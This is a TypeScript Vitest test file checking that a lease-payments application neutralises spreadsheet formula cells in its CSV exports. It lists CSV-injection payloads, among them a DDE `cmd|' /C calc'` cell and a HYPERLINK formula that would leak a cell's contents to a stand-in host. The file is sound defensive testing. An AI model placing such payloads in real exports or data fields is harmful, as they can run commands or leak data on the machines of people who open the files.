import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createAccount } from '../../db/repositories/accounts.ts';
import { addAddress } from '../../db/repositories/customer-addresses.ts';
import { createCustomer } from '../../db/repositories/customers.ts';
import { createSession } from '../../db/repositories/sessions.ts';
import { csvRows } from '../../renderer/src/areas/mail-payments/lockbox-csv.ts';
import { neutraliseCell, writeCsv } from '../../server/core/csv.ts';
import { createTestApp, type TestApp } from './harness.ts';
import { goodLeaseItem, seedMailFixture } from './mail-payments-fixtures.ts';
import { httpApp } from './messages-fixtures.ts';

/** Cells a spreadsheet would run: each must come out as text (a leading apostrophe). */
const HOSTILE = [
  `=cmd|' /C calc'!A0`,
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
];

let app: TestApp;
beforeEach(async () => {
  app = await createTestApp();
});
afterEach(() => app.close());

describe('one CSV writer, formula cells neutralised', () => {
  it.each(HOSTILE)('neutralises %j and keeps it readable', (cell) => {
    const [header, row] = csvRows(writeCsv(['value', 'amount'], [[cell, '-12.50']]));
    expect(header).toEqual(['value', 'amount']);
    expect(row?.[0]).toBe(`'${cell}`);
    // Negative amounts stay numbers, not text.
    expect(row?.[1]).toBe('-12.50');
  });

  it('leaves ordinary text and numbers alone', () => {
    expect(neutraliseCell('Ann Lee')).toBe('Ann Lee');
    expect(neutraliseCell('-45.00')).toBe('-45.00');
    expect(neutraliseCell('-45.00+1')).toBe("'-45.00+1");
  });

  it('the exceptions-aging CSV shows a keyed formula account number as text', async () => {
    const fx = await seedMailFixture(app);
    const agent = await app.as('agent');
    for (const [i, accountNumber] of HOSTILE.slice(0, 4).entries()) {
      const batch = await agent.mailPayments.batches.open({
        lockboxId: 'lease-phoenix',
        receiptDate: '2026-11-18',
        controlCount: 1,
        controlTotal: '100',
      });
      await agent.mailPayments.items.add({
        batchId: batch.id,
        ...goodLeaseItem(fx.lease.accountNumber, {
          accountNumber,
          amount: '100',
          instrumentNumber: `${2000 + i}`,
        }),
      });
    }
    const csv = await agent.mailPayments.reports.csv({ report: 'aging' });
    const rows = csvRows(csv.content);
    const column = rows[0]?.indexOf('account_number') ?? -1;
    expect(column).toBeGreaterThanOrEqual(0);
    const keyed = (await agent.mailPayments.exceptions.list({})).map((e) => e.item.accountNumber);
    expect(keyed).toContain(`=cmd|'/Ccalc'!A0`);
    const accounts = rows.slice(1).map((r) => r[column]);
    expect(accounts.sort()).toEqual(keyed.map((a) => neutraliseCell(a)).sort());
    expect(accounts).toContain(`'=cmd|'/Ccalc'!A0`);
    expect(accounts.filter((a) => a?.startsWith("'"))).toHaveLength(3);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('the disputes cockpit CSV shows a formula customer name as text', async () => {
    const db = app.deps.db;
    const at = app.clock.now().toISOString();
    const customer = await createCustomer(
      db,
      { firstName: '=HYPERLINK("http://x.test/?"&A1)', lastName: '@Lee' },
      at,
    );
    await addAddress(
      db,
      {
        customerId: customer.id,
        line1: '1 MAIN ST',
        city: 'PHOENIX',
        region: 'AZ',
        postalCode: '85001',
        country: 'US',
        effectiveFrom: '2020-01-01',
        source: 'origination',
      },
      at,
    );
    const account = await createAccount(
      db,
      {
        accountNumber: '1000000001',
        type: 'lease',
        vin: '1M8GDM9AXKP042788',
        vehicle: { year: 2024, make: 'MINI', model: 'Cooper' },
        holderCustomerId: customer.id,
        termMonths: 36,
        frequency: 'monthly',
        paymentCents: 45_000,
        dueDay: 5,
        openedOn: '2024-01-05',
        amountFinancedCents: 3_000_000,
        aprBps: 399,
        residualCents: 1_500_000,
      },
      at,
    );
    const agent = await app.as('agent');
    await agent.disputes.create({
      customerId: customer.id,
      accountId: account.id,
      channel: 'phone',
      errorType: 'duplicate_debit',
      reason: 'EasyPay took the November payment twice.',
      transactions: [{ transactionOn: '2026-11-05', amountCents: 45_000, description: 'EasyPay' }],
    });
    const supervisor = await app.as('supervisor');
    const token = await createSession(db, supervisor.userId, at);
    const http = await httpApp(app.deps);
    const res = await http.inject({
      method: 'GET',
      url: '/api/disputes/cockpit.csv?filter=open',
      cookies: { cic_session: token },
    });
    expect(res.statusCode).toBe(200);
    const rows = csvRows(res.body);
    const column = rows[0]?.indexOf('customer') ?? -1;
    expect(rows[1]?.[column]).toBe(`'=HYPERLINK("http://x.test/?"&A1) @Lee`);
    await http.close();
  });

  it('no module but server/core/csv.ts writes CSV with csv-stringify', () => {
    const root = path.resolve(import.meta.dirname, '../..');
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const full = path.join(dir, name);
        if (statSync(full).isDirectory()) walk(full);
        else if (/\.(ts|tsx)$/.test(name) && readFileSync(full, 'utf8').includes('csv-stringify')) {
          offenders.push(path.relative(root, full));
        }
      }
    };
    for (const dir of ['server', 'db', 'renderer/src']) walk(path.join(root, dir));
    expect(offenders).toEqual([path.join('server', 'core', 'csv.ts')]);
  });
});
